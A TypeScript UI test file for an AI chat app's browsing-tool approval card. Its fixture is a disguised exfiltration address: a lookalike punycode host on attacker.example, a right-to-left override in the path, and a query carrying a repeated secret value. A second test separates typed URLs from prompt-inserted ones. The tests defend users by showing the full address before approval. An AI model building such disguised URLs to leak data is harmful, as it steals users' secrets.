import type { ToolCardView } from "../../src/shared/tools.ts";
import { violations } from "./axe.ts";
import { expect, inEveryTheme, test } from "./fixtures.ts";
import { emptyChat, messageOf, streaming, turnOf } from "./states.ts";

const host = "xn--pple-43d.attacker.example:8443";
const after = `/collect/%E2%80%AEgnp?d=${"SECRET-0123456789".repeat(100)}`;

/** A page that waits for the user's word, with an address as long as one may be. */
const asking: ToolCardView = {
	id: "visit",
	after: 1,
	title: "Browsing",
	line: `Read https://${host}/collect/%E2%80%AEgnp?d=SECRET-0123456789SECR…`,
	name: "browsing",
	argumentsText: "",
	state: "asking",
	approval: {
		requestId: "request",
		files: [],
		address: { before: "https://", host, after },
		warnings: [
			"The page at docs.example redirects to this address.",
			`This sends all 1,747 characters of the address to ${host}.`,
		],
		canRemember: false,
		hunks: [],
	},
};
const waiting = {
	...emptyChat,
	turns: [
		turnOf("Go", [messageOf("", { toolNames: ["browsing"] })], {
			status: streaming,
			tools: [asking],
		}),
	],
};

test("T36: a page is asked about with all of its address, and its host beside the answers @core", async ({
	chat,
}) => {
	const { page } = chat;
	// All of it is in sight.
	await page.setViewportSize({ width: 600, height: 1200 });
	await chat.open(waiting);
	const address = page.locator(".tool-address");
	await expect(address).toHaveText(`https://${host}${after}`);
	await expect(address.locator("strong")).toHaveText(host);
	await expect(page.getByRole("button", { name: "Allow", exact: true })).toBeEnabled();
	await expect(page.getByRole("button", { name: "Allow in this chat" })).toHaveCount(0);
	await inEveryTheme(page, async () => {
		for (const width of [600, 300, 150]) {
			await page.setViewportSize({ width, height: 900 });
			const seen = () =>
				address.evaluate(element => {
					const range = document.createRange();
					range.selectNodeContents(element);
					const box = element.getBoundingClientRect();
					const [first, ...others] = document.querySelectorAll(".tool-warning");
					const warning = others[0]?.getBoundingClientRect() ?? first?.getBoundingClientRect();
					const buttons = document.querySelector(".tool-buttons")?.getBoundingClientRect();
					const isInside = ({ left, right, bottom }: DOMRect): boolean =>
						left >= box.left - 1 && right <= box.right + 1 && bottom <= box.bottom + 1;
					return {
						isWhole: [...range.getClientRects()].every(isInside) && box.right <= innerWidth,
						isHostBesideAnswers:
							warning !== undefined &&
							buttons !== undefined &&
							warning.top >= box.bottom &&
							warning.top >= 0 &&
							buttons.bottom <= innerHeight,
					};
				});
			// After its width, the list still has to come to its end.
			await expect.poll(seen, `${width} px`).toEqual({ isWhole: true, isHostBesideAnswers: true });
		}
		expect(await violations(page)).toEqual([]);
	});
});

test("T36: an address that is typed goes along as typed, and one that a prompt put there does not", async ({
	chat,
}) => {
	const { page } = chat;
	const message = page.getByRole("textbox", { name: "Message" });
	await chat.open(emptyChat);
	await chat.event("fillComposer", { text: "Compare https://prompt.example/" });
	await expect(message).toHaveValue("Compare https://prompt.example/");
	await message.press("End");
	await message.pressSequentially(" with https://typed.example/a");
	await message.press("Enter");
	await expect
		.poll(() => chat.requests("sendPrompt"))
		.toEqual([
			{
				text: "Compare https://prompt.example/ with https://typed.example/a",
				typed: ["https://typed.example/a"],
			},
		]);
});
